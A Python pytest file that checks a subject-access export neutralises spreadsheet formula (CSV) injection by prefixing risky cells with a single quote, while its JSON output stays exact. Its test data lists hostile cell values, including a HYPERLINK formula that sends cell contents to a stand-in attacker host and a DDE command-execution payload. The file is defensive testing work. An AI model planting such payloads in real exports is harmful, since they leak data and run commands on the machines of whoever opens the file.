"""The subject-access export's CSV cells cannot run as spreadsheet formulas (OWASP CSV
injection); its JSON keeps every value exact. Pure: :func:`sinks.export.render`."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from sinks.export import CSV_NOTE, manifest, render

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\tleading tab", "\rleading CR", "=1+1"]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("title", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_single_quote_in_csv(title):
    table = {"columns": ["user", "title", "n"], "rows": [["ann", title, -3]]}
    [header, row] = rows(render(table, "csv"))
    assert header == ["user", "title", "n"]
    assert row == ["ann", "'" + title, "-3"], "numbers stay numbers, the text is escaped"
    assert json.loads(render(table, "json")) == [{"user": "ann", "title": title, "n": -3}]


def test_harmless_text_and_json_values_are_written_as_they_are():
    table = {"columns": ["title", "meta", "none"],
             "rows": [["a = b + c", {"k": "=x"}, None], ["it's 'quoted'", ["-"], None]]}
    assert rows(render(table, "csv"))[1:] == [["a = b + c", '{"k": "=x"}', ""],
                                              ["it's 'quoted'", '["-"]', ""]]


def test_a_hostile_column_name_is_escaped_too():
    assert rows(render({"columns": ["=cmd"], "rows": []}, "csv")) == [["'=cmd"]]


def test_the_csv_manifest_says_how_cells_were_escaped_and_the_json_one_does_not():
    now = dt.datetime(2026, 12, 1, tzinfo=dt.UTC)
    assert CSV_NOTE in manifest("t", "ann", "r", {}, now, {}, "csv")["notes"]
    assert CSV_NOTE not in manifest("t", "ann", "r", {}, now, {}, "json")["notes"]
    assert "single quote" in CSV_NOTE and "exactly" in CSV_NOTE
